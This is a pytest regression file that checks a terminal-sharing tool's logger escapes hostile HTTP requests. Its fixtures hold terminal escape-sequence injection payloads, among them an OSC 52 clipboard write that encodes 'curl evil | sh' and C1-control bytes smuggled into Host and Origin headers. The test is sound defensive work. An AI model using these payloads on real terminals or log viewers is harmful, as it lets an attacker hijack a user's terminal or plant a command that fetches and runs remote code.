"""A request cannot write escape sequences to the terminal glyphcast logs on (the sharer's own, under share).

The red team's request path set the terminal's title, put ``curl ... | sh`` in
its clipboard (OSC 52) and asked it questions (CSI 6n, DA) whose answers came
back as keystrokes into the shared program. Whatever a call site quotes, the
CLI's log handler (glyphcast.logs) writes it as text.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import time

import pytest
from glyphcast_websocket.testing import wait_for
from hub_fixtures import free_port

pytestmark = pytest.mark.timeout(60)

#: A title, a clipboard write, a cursor-position query and a device-attributes query: ASCII, so the
#: HTTP parser takes them in a request path.
ATTACK = b"\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[6n\x1b[c"
#: Header values cannot carry C0 controls, but latin-1 bytes that decode to C1 controls (8-bit CSI,
#: OSC and ST, which some terminals obey) pass.
C1_ATTACK = b"\x9b6n\x9d0;pwned\x9c"
UPGRADE = (
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    b"Sec-WebSocket-Version: 13\r\n"
)
REQUESTS = [
    b"GET /" + ATTACK + b" HTTP/1.1\r\nHost: evil.example\r\n\r\n",  # refused for its Host, path quoted
    b"GET /ws/" + ATTACK + b" HTTP/1.1\r\nHost: localhost\r\n" + UPGRADE + b"\r\n",
    b"GET /" + ATTACK + b" HTTP/1.1\r\nHost: localhost\r\n" + UPGRADE + b"\r\n",
    b"GET /ws HTTP/1.1\r\nHost: localhost\r\n"
    + UPGRADE
    + b"Origin: http://a"
    + C1_ATTACK
    + b".example\r\n\r\n",
    b"GET /ws HTTP/1.1\r\nHost: a" + C1_ATTACK + b".example\r\n" + UPGRADE + b"\r\n",
    b"GET /"
    + ATTACK
    + b" HTTP/1.1\r\nHost: localhost\r\nOrigin: http://a"
    + C1_ATTACK
    + b"\r\n"
    + UPGRADE
    + b"\r\n",
]
#: Bytes that must not reach a terminal from a log line: ESC, BEL, and C1 CSI, OSC and ST (UTF-8).
RAW = (b"\x1b", b"\x07", b"\xc2\x9b", b"\xc2\x9d", b"\xc2\x9c")


def _send(port: int, request: bytes) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        sock.sendall(request)
        try:
            sock.recv(4096)  # the refusal (or nothing, when the request is not even HTTP to the parser)
        except OSError:
            pass


def test_requests_carrying_escape_sequences_reach_stderr_as_text() -> None:
    port = free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "glyphcast", "run", "--source", "demo", "--display", f"websocket:port={port}"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
    )
    try:
        assert wait_for(lambda: _listening(port), timeout=20), "the server never listened"
        for request in REQUESTS:
            _send(port, request)
        time.sleep(0.5)
    finally:
        server.terminate()
        _, stderr = server.communicate(timeout=20)
    assert b"refused 'GET' '/" in stderr, stderr  # the refusals were logged: this is what is checked
    for raw in RAW:
        assert raw not in stderr, f"{raw!r} reached stderr raw: {stderr!r}"


def _listening(port: int) -> bool:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.2):
            return True
    except OSError:
        return False


def test_addresses_printed_without_logging_are_escaped_too() -> None:
    """A script that never configures logging gets the addresses on stderr: as text, whatever they hold."""
    program = "import sys\nfrom glyphcast_websocket.display import announce\nannounce([sys.argv[1]])\n"
    line = "serving http://127.0.0.1:1/" + ATTACK.decode() + C1_ATTACK.decode("latin-1")
    result = subprocess.run([sys.executable, "-c", program, line], capture_output=True, timeout=30)
    assert (
        result.returncode == 0
        and b"glyphcast: websocket: serving http://127.0.0.1:1/\\x1b]0;pwned" in result.stderr
    )
    for raw in RAW:
        assert raw not in result.stderr, result.stderr
